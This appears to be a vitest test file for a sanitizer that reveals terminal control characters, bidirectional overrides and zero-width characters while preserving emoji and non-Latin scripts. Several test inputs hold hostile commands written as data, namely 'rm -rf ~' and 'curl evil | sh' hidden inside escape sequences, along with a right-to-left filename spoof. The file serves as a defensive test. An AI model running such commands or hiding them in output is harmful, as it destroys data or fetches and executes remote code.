import { expect, test } from 'vitest';
import { visibleLine, visibleText } from './visible-text.ts';

test('control characters are seen, and what stands between them stays', () => {
  expect(visibleText('a\u001b[31mb\u0007')).toBe('a␛[31mb␇');
  expect(visibleText('ls\u001b]0; rm -rf ~ \u0007 -l')).toBe('ls␛]0; rm -rf ~ ␇ -l');
  expect(visibleText('a\u001bP; curl evil | sh\u001b\\b\u009d x\u009cc')).toBe(
    'a␛P; curl evil | sh␛\\b\ufffd x\ufffdc',
  );
  expect(visibleText('safe\rrm -rf ~\b\u007f\0')).toBe('safe␍rm -rf ~␈␡␀');
});

test.each([
  ...['\u200e', '\u200f', '\u061c', '\u202a', '\u202e', '\u2066', '\u2069'],
  ...['\u200b', '\u200c', '\u200d', '\u2060', '\ufeff', '\u00ad', '\u3164', '\u{e0041}', '\u2028'],
])('what turns the direction of text or takes no room is seen: %j', char => {
  expect(visibleText(`user${char}gnp.exe`)).toBe('user\ufffdgnp.exe');
});

test.each(['👩\u200d💻 ❤\ufe0f\u200d🔥 👍🏽', 'می\u200cخواهم', 'क्\u200dष', 'é ß 中文'])(
  '%s is left as it is',
  text => {
    expect(visibleText(text)).toBe(text);
  },
);

test('half a character is one that cannot be shown', () => {
  expect(visibleText('a\ud800b')).toBe('a\ufffdb');
});

test('lines and tabs stay, and are one space on one line', () => {
  expect(visibleText('a\tb\r\nc')).toBe('a\tb\nc');
  expect(visibleLine(' a\tb\r\n\n c\u001b ')).toBe('a b c␛');
});
